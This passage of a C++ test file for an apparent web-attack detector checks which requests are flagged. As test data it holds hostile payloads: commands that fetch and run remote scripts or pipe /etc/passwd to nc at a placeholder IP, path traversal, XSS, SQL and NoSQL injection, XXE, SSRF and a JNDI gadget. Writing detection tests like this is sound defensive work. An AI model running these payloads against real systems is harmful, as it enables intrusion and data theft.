// application's own protocol (PayPal's cmd=_xclick, a file manager connector's cmd=ls) and a
// control plane's JSON "command" fields are not command lines to run.
TEST_F(ContextGradingTest, CommandLineInACommandParameter) {
  EXPECT_TRUE(get("/shell.php?cmd=id"));
  EXPECT_TRUE(get("/cgi-bin/admin.cgi?Command=sysCommand&Cmd=nslookup+x7.oast.example"));
  EXPECT_TRUE(form("/boafrm/formSysCmd", "submit-url=%2Fsyscmd.htm&sysCmd=wget+http%3A%2F%2F198.51.100.7%2Fa.sh"));
  EXPECT_TRUE(get("/capture?captureFlag=true&captureCommand=ping%20198.51.100.7%20index.pcap"));
  EXPECT_FALSE(get("/cgi-bin/webscr?cmd=_xclick&business=shop%40example.com&amount=10"));
  EXPECT_FALSE(get("/elfinder/connector?cmd=ls&target=l1_Lw"));
  EXPECT_FALSE(get("/elfinder/connector?cmd=mkdir&target=l1_Lw&name=reports"));
  EXPECT_FALSE(get("/search?q=wget+tutorial&cmd=search"));
  EXPECT_FALSE(json(R"({"service": {"startCommand": "npm run start", "installation_command": "docker pull ghcr.io/acme/app:1.2"}})"));
}

// What a raw-URL handler reads after a '#' in the request target (browsers never send one),
// and a Referer that no browser wrote (not an absolute URL), are inspected like parameters.
TEST_F(ContextGradingTest, FragmentAndForgedRefererAreInspected) {
  EXPECT_TRUE(get("/static/nbextensions/#/../../../../../../etc/passwd"));
  EXPECT_TRUE(get("/x#%3Cscript%3Ealert(1)%3C/script%3E"));
  EXPECT_FALSE(get("/docs/guide#installing-on-linux"));
  EXPECT_FALSE(get("/app#/dashboard?tab=overview&range=7d"));
  EXPECT_TRUE(get("/user/login.php", {{"Referer", "xss\"/><img src=\"#\" onerror=\"alert(document.domain)\"/>"}}));
  EXPECT_TRUE(get("/", {{"Referer", "a=nc&&$a -nlvp 555"}}));
  // a browser's Referer: the page's own URL, its query the page's form data
  EXPECT_FALSE(get("/", {{"Referer", "https://shop.example/search?q=select+union+jack+flag"}}));
  EXPECT_FALSE(get("/", {{"Referer", "https://app.example/#/reports?q=(from:now-7d,to:now)"}}));
}

// What people type into search boxes and support forms (intent datasets, question titles):
// a quoted "where" opening a question, a file name as the subject of a search.
TEST_F(ContextGradingTest, TypedQuestionsAreNotInjections) {
  EXPECT_FALSE(form("/support/ticket", "message=%22where+is+improve+the+credit+score"));
  EXPECT_FALSE(form("/questions/ask", "title=How+to+do+a+%22where+in+values%22+in+LINQ-to-Entities"));
  EXPECT_FALSE(get("/search?q=.htaccess+rewrite+and+subdomains"));
  EXPECT_FALSE(get("/search?q=web.config+transform+for+release"));
  EXPECT_TRUE(get("/p?id=1%27+where+username%3D%27admin%27--"));
  EXPECT_TRUE(get("/p?id=x%27%20where%201%3D1%20--"));
  EXPECT_TRUE(get("/download?file=.htaccess"));
  EXPECT_TRUE(get("/download?file=..%2F.htaccess"));
}

// Shapes a review of the context rules above found: each evasion still counts, and each
// benign text of the new detections stays clean.
TEST_F(ContextGradingTest, ReviewedEvasionsAndTexts) {
  // a URL value followed by words after '#' is that URL; a cluster name mentioned beside it
  EXPECT_TRUE(json(R"({"url": "http://127.0.0.1:2375/containers/json#is the docker api we use in our local dev guide"})"));
  EXPECT_TRUE(json(R"({"note": "We call (http://kubernetes.default.svc/api/v1/secrets) from the app, see http://localhost:3000 in your browser for the rest of the guide."})"));
  // an operator right under a field named like a query language
  EXPECT_TRUE(get("/products?condition%5B%24ne%5D=used"));
  EXPECT_TRUE(json(R"({"query": {"$regex": ".*"}})"));
  EXPECT_TRUE(json(R"({"filter": {"$expr": {"$eq": [{"$substrCP": ["$password", 0, 1]}, "a"]}}})"));
  // a file URL with any authority
  EXPECT_TRUE(json(R"({"name": "m1", "source": "file://x/etc/"})"));
  // one-wildcard globs after a separator; a bare "/*" or a CSS comment is no glob
  EXPECT_TRUE(get("/x?a=1%3B%2Fbin%2F%3Fat+%2Fetc%2F%3Fasswd"));
  EXPECT_TRUE(get("/x?a=x%7C%2Fusr%2Fbin%2F%3Fhoami"));
  EXPECT_FALSE(json(R"({"spec": {"rules": [{"http": {"paths": [{"path": "/*", "pathType": "ImplementationSpecific"}]}}]}})"));
  EXPECT_FALSE(json(R"({"content": "<div style=\"color: red; /* the alert colour */ font-weight: bold\">Disk</div>"})"));
  // several line breaks at the end of a path end its headers early
  EXPECT_TRUE(get("/r/https://evil.example/%0d%0a%0d%0a"));
  // commands that are words, with words after them; download commands whose output is kept
  EXPECT_FALSE(form("/assistant", "command=set+alarm+for+7am"));
  EXPECT_FALSE(form("/assistant", "voiceCommand=find+my+phone"));
  EXPECT_FALSE(get("/games?system=ps&genre=racing"));
  EXPECT_FALSE(get("/docs/search?q=curl+https%3A%2F%2Fapi.example.com%2Fv1%2Fcharges"));
  EXPECT_TRUE(form("/x", "q=curl+-s+https%3A%2F%2F198.51.100.7%2Fa+%7C+sh"));
  EXPECT_FALSE(form("/setup", "gw=192.168.1.1%3B+set+as+gateway"));
  // texts naming scanner hosts, PowerShell types, dumps of a data site; a quoted sentence
  EXPECT_FALSE(get("/acme/tools/blob/main/scripts/interact.sh"));
  EXPECT_FALSE(form("/paste", "text=The+error+mentions+System.Security.Principal.WindowsIdentity+and+a+PSObject+when+the+script+runs"));
  EXPECT_FALSE(get("/enwiki/20240101/enwiki-20240101-page.sql.gz"));
  EXPECT_FALSE(form("/reviews", "comment=Label+says+%22vegan%22.+Ingredients+(soy%2C+salt).+%22May+contain+nuts%22"));
  EXPECT_FALSE(get("/search?q=var_dump"));
}

// The contexts above are judged from what the application chose (field names, document shape),
// never from what a short payload can add to itself: each of these still counts.
TEST_F(ContextGradingTest, ContextsAPayloadCanForgeStillCount) {
  // An '@' in the query or fragment is no userinfo: the host is localhost.
  EXPECT_TRUE(json(R"J({"webhook": "http://localhost:2375?@docker.local"})J"));
  // A cluster-internal URL with a path in a plain field is a fetch target.
  EXPECT_TRUE(json(R"J({"url": "http://vault.default.svc.cluster.local:8200/v1/secret/db"})J"));
  EXPECT_TRUE(json(R"J({"url": "http://ip-10-0-0-1.ec2.internal:8080/admin"})J"));
  // A URL padded with markup after it is no rich-text post.
  EXPECT_TRUE(get("/f?url=http%3A%2F%2F127.0.0.1%3A8080%2Fmanager%2Fhtml%23%3C%2Fa%3E%3C%2Fa%3E" +
                  std::string(220, 'a')));
  // A parenthesised subquery is no whole statement.
  EXPECT_TRUE(json(R"J({"id": "(select group_concat(password) from users)"})J"));
  EXPECT_TRUE(json(R"J({"sort": "(select case when (1=1) then name else price end)"})J"));
  // A link with a script scheme, an unclosed fence.
  const std::string prose(
      "This page explains how the export works, which fields it writes, how often it runs and "
      "where the files go once they are ready, so that the team can plan the next release and "
      "check the numbers before the weekly review with everyone involved in the project. ");
  EXPECT_TRUE(json("{\"doc\": \"" + prose + "[click me](javascript:alert(document.domain)) ```x```\"}"));
  EXPECT_TRUE(json("{\"doc\": \"" + prose + "```' union select username,password from users-- \"}"));
  // A URL in an IP field is a target; a capitalised PowerShell command runs.
  EXPECT_TRUE(get("/ping?ip=http%3A%2F%2F127.0.0.1%3A8080%2Fadmin"));
  EXPECT_TRUE(get("/x?cmd=my+file+name%3B+Curl+10.0.0.1%3A8000"));
  EXPECT_TRUE(get("/x?host=check+the+host%3B+Ping+-n+20+127.0.0.1"));
  // Words inside a string literal do not make a call a sentence.
  EXPECT_TRUE(get("/x?code=%24a%3D%27sys%27.%27tem%27%3B%24a(%27cat+flag.txt%27)%3B"));
}

// Shapes of telemetry (Sentry events, Segment-format analytics, OTLP exports of public SDK
// fixtures that are not in the corpus).
TEST_F(ContextGradingTest, TelemetryIsNotAnInjection) {
  // Every Node.js warning ends with a code span naming node's own option.
  EXPECT_FALSE(json(R"J({"breadcrumbs": {"values": [{"message": "(node:123) MaxListenersExceededWarning: Possible EventEmitter memory leak detected. 200 unpipe listeners added to [Console]. Use emitter.setMaxListeners() to increase limit\n(Use `node --trace-warnings ...` to show where the warning was created)"}]}})J"));
  EXPECT_TRUE(json(R"J({"message": "`id`"})J"));
  // (a short message with markup around the span is not a sentence that quotes code)
  EXPECT_TRUE(json(R"J({"message": "see [1] (x): `cat /etc/passwd`"})J"));
  // Stack frames name Java packages and classes; a type field or any other field still loads one.
  EXPECT_FALSE(json(R"J({"exception": {"values": [{"module": "java.lang", "stacktrace": {"frames": [{"module": "java.lang.reflect.Method", "filename": "sun.nio.ch.Net"}]}}]}})J"));
  EXPECT_TRUE(json(R"J({"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://198.51.100.7/x"})J"));
  EXPECT_TRUE(json(R"J({"x": "java.lang.Runtime"})J"));
  // An HTML e-mail's W3C document type; an internal subset or another DTD is XXE.
  EXPECT_FALSE(json(R"J({"inAppBody": "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd\"><html><body><p>Hi</p></body></html>"})J"));
  EXPECT_TRUE(json(R"J({"body": "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>"})J"));
  EXPECT_TRUE(json(R"J({"body": "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://evil.example/x.dtd\"><html/>"})J"));
  // An identifier in a "file:" namespace is no file URL; a file URL in a parameter counts.
  EXPECT_FALSE(json(R"J({"triggerDetails": "file:1a69df39-4ebc-4f9d-ac79-05fb0356137e/7647792f-4ebc-4f9d-ac79-05fb0356137e"})J"));
  EXPECT_TRUE(get("/fetch?url=file%3A%2F%2F%2Fetc%2Fpasswd"));
}

// A forum post sent as a form field (Discourse's "raw"): a written text, judged as a document.
TEST_F(ContextGradingTest, PostedTextInAFormFieldIsADocument) {
  const auto post = [](std::string_view body) { return form("/posts.json", body); };
  // a tldr-style answer: descriptions and commands in code spans
  EXPECT_FALSE(post("raw=%23+dnf5+group%0A%0A%3E+This+command+is+an+alias+of+%60dnf+group%60.%0A%3E+"
                    "Note%3A+From+Fedora+37+to+40+(inclusive)%2C+%60dnf%60+runs+DNF+v4+while+%60"
                    "dnf5%60+runs+DNF+v5.%0A%0A-+View+documentation+for+the+original+command%3A%0A"
                    "%0A%60tldr+dnf+group%60%0A&category=1&topic_id=12420&archetype=regular"));
  // One line, or a few words: a parameter, and the command counts.
  EXPECT_TRUE(post("topic_id=42&raw=x%3B+cat+%2Fetc%2Fpasswd+%7C+nc+198.51.100.7+4444"));
  EXPECT_TRUE(post("topic_id=42&raw=hi%0A%0Athere%0A%60cat+%2Fetc%2Fpasswd%60%3B+id"));
}

} // namespace
} // namespace bulwark::detect
